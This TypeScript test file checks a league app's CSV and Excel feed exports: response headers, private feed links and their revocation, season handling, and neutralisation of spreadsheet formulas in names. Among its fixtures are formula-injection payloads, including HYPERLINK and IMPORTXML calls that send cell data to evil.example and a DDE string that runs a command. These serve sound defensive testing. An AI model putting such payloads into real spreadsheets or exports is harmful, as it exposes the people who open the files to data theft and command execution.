import { parse } from 'papaparse';
import { readSheet } from 'read-excel-file/universal';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { seasonFiles } from '#domain/competition/season-files.ts';
import { seasonDownload } from '#supabase/functions/feeds/season-download.ts';
import { nasty, openPublicLeague, team } from '#host/testing/open-league.ts';
import { member, type TestLeague } from '#host/testing/test-league.ts';

// CSV and Excel files of leagues at addresses (docs/decisions/0040), read by a parser that is not ours. What the writers do to a cell is in
// src/domain/competition/csv.test.ts; that nothing is kept of one for another, in host/stranger.test.ts.

let league: TestLeague;
let secret: string;

beforeAll(async () => {
  league = await openPublicLeague();
  const reader = await member(league, 'csv@example.com');
  const [link] = await league.backend.query<{ reader_secret: string }>(
    `insert into private.feed_links (user_id, secret) values ($1, repeat('c', 48)) returning reader_secret`,
    [reader.id],
  );
  secret = link!.reader_secret;
});
afterAll(() => league.close());

const read = async (path: string) => {
  const answer = await league.ask(`/feeds/${path}`, { headers: { apikey: '' } });
  return { answer, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await answer.arrayBuffer()) };
};

/** The rows a spreadsheet has. The file ends with an end of line. */
function rowsIn(text: string, delimiter = ','): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const { data, errors } = parse<string[]>(text, { delimiter, newline: '\r\n' });
  expect(errors).toEqual([]);
  expect(data.pop()).toEqual(['']);
  expect(new Set(data.map(({ length }) => length)).size).toBe(1);
  return data;
}

const rows = {
  table: [
    ['place', 'team', 'played', 'won', 'lost', 'goals_for', 'goals_against', 'goal_difference', 'points', 'adjustment'],
    ['1', 'Third', '2', '1', '1', '4', '2', '2', '3', '0'],
    ['2', nasty, '1', '1', '0', '2', '1', '1', '3', '0'],
    ['3', 'Rıhtım Gücü', '2', '1', '1', '3', '3', '0', '3', '0'],
    ['4', 'Fourth', '1', '0', '1', '0', '3', '-3', '0', '0'],
  ],
  schedule: [
    ['round', 'date', 'time', 'home', 'away', 'home_score', 'away_score', 'forfeit', 'stage', 'status'],
    ['1', '2027-01-04', '20:30', nasty, 'Rıhtım Gücü', '', '', '', 'regular', ''],
    ['2', '2026-01-05', '20:30', nasty, 'Rıhtım Gücü', '2', '1', '', 'regular', ''],
    ['3', '2026-01-06', '20:30', 'Third', 'Fourth', '3', '0', 'away', 'regular', ''],
    ['4', '2026-01-07', '20:30', 'Rıhtım Gücü', 'Third', '2', '1', '', 'regular', ''],
  ],
  squads: [
    ['team', 'player', 'role', 'number'],
    [nasty, 'Hidden', 'player', ''],
    [nasty, 'Kerem.Doğan 7', 'player', ''],
  ],
  statistics: [
    ['player', 'team', 'goals', 'assists', 'interceptions', 'saves', 'mvp'],
    ['Hidden', nasty, '1', '0', '0', '0', '0'],
    ['Kerem.Doğan 7', nasty, '1', '0', '0', '0', '0'],
  ],
};

/** As visitors read it. */
const open = (all: string[][]) =>
  all.map((row) => row.map((cell) => (cell === 'Hidden' ? `A player of ${nasty}` : cell)));

test.each(seasonFiles)('%s is a file to save, and who hides the name has it in a member’s alone', async (file) => {
  for (const [at, robots, shown] of [
    ['open-league', 'noindex', open(rows[file])],
    [`my/${secret}/open-league`, 'noindex', rows[file]],
  ] as const) {
    const { answer, text } = await read(`${at}/${file}.csv`);
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename="open-league-4-${file}.csv"`,
      'x-robots-tag': robots,
      'x-content-type-options': 'nosniff',
    });
    expect(rowsIn(text), at).toEqual(shown);
  }
});

test.each(seasonFiles)('%s is split by semicolons or an Excel file where that is asked for', async (file) => {
  for (const [at, shown] of [
    ['open-league', open(rows[file])],
    [`my/${secret}/open-league`, rows[file]],
  ] as const) {
    expect(rowsIn((await read(`${at}/${file}.csv?separator=semicolon`)).text, ';'), at).toEqual(shown);
    const answer = await league.ask(`/feeds/${at}/${file}.xlsx`, { headers: { apikey: '' } });
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      'content-disposition': `attachment; filename="open-league-4-${file}.xlsx"`,
      'x-robots-tag': 'noindex',
    });
    const rows = await readSheet(await answer.blob());
    expect(rows.map((cells) => cells.map((cell) => String(cell ?? '')))).toEqual(shown);
  }
});

test('another season is named by its number, and one without teams has a head alone', async () => {
  for (const at of ['open-league', `my/${secret}/open-league`])
    for (const file of seasonFiles) {
      const { answer, text } = await read(`${at}/${file}.csv?season=3`);
      expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="open-league-3-${file}.csv"`);
      expect(rowsIn(text)).toEqual([rows[file][0]]);
      for (const season of ['99', '0', '-1', 'x', '', '3;', '1e1', '99999999999'])
        expect((await read(`${at}/${file}.csv?season=${season}`)).answer.status, season).toBe(404);
    }
});

test('a personal address opens a closed league, keeps nothing, and is nothing once it is removed', async () => {
  const mine = seasonFiles.map((file) => `my/${secret}/closed-league/${file}.csv`);
  for (const path of mine) {
    const { answer } = await read(path);
    expect([answer.status, answer.headers.get('cache-control')]).toEqual([200, 'private, no-cache']);
  }
  for (const file of seasonFiles)
    for (const path of [`closed-league/${file}.csv`, `my/${'0'.repeat(48)}/closed-league/${file}.csv`, `my/x/open-league/${file}.csv`]) {
      const { answer, text } = await read(path);
      const result = [answer.status, answer.headers.get('cache-control'), answer.headers.get('content-disposition'), text];
      expect(result, path).toEqual([404, 'no-store', null, 'Not found']);
    } // prettier-ignore
  const { backend, log } = league;
  const cached = await read(mine[0]!);
  const revoked = (at: string) => backend.query(`update private.feed_links set revoked_at = ${at} where reader_secret = $1`, [secret]); // prettier-ignore
  await revoked('now()');
  for (const path of mine) expect((await read(path)).answer.status).toBe(404);
  const headers = { apikey: '', 'if-none-match': cached.answer.headers.get('etag')! };
  expect((await league.ask(`/feeds/${mine[0]!}`, { headers })).status).toBe(404);
  await revoked('null');
  expect(log.join('\n')).not.toContain(secret);
});

/** Names that a spreadsheet would compute, fetch or run. */
const formulas = [
  '=1+1', '=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
  '\n=1+1', ' =1+1', '"=1+1', "'=1+1", '＝1+1', '＋1', '－1', '＠SUM(A1)', 'a\n=1+1', 'a;=1+1', 'a\t=1+1', '","=1+1', ';=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', '%0A=1+1', '\u00a0=1+1', '\u200b=1+1', '-1', '🏆=1+1',
]; // prettier-ignore

test.each(formulas)('%j as a team’s and a player’s name is text in every file', async (name) => {
  const answers: Record<string, unknown> = {
    public_league: {
      league: { slug: 'l', time_zone: 'UTC' },
      season: { season: 1, relegation_places: 0, playoff_teams: 4, points_for_win: 3 },
      teams: [1, 2].map((number) => ({ id: team(number), name: number === 1 ? name : 'Other' })),
      adjustments: [],
      series: [],
      matches: [{ id: 'm', matchday: 1, stage: 'regular', home_team_id: team(1), away_team_id: team(2), kickoff_at: '2026-01-05T17:30:00Z', status: 'finished', home_score: 0, away_score: 3, forfeited_by: null }],
    },
    public_squads: {
      league: { slug: 'l', time_zone: 'UTC' },
      season: 1,
      teams: [{ id: team(1), name }],
      squads: [{ team_id: team(1), username: name, team_role: 'captain', shirt_number: 7 }],
    },
    public_stats: {
      league: { slug: 'l', time_zone: 'UTC' },
      season: 1,
      stats: [{ username: name, team: { id: team(1), name }, goals: 1, assists: 0, interceptions: 0, saves: 0, mvp: 0 }],
    },
  }; // prettier-ignore
  for (const file of seasonFiles) {
    const csv = await seasonDownload(file, { slug: 'l' }, { type: 'csv' }, (call) => Promise.resolve(answers[call]));
    const cells = rowsIn(String(csv!.body)).flat();
    // a number below zero is one
    for (const cell of cells) expect(cell).not.toMatch(/^(?!-\d+$)\s*[=+\-@＝＋－＠]/);
    const letters = (text: string) => text.replaceAll("'", '');
    expect(cells.map(letters), file).toContain(letters(name));
  }
});
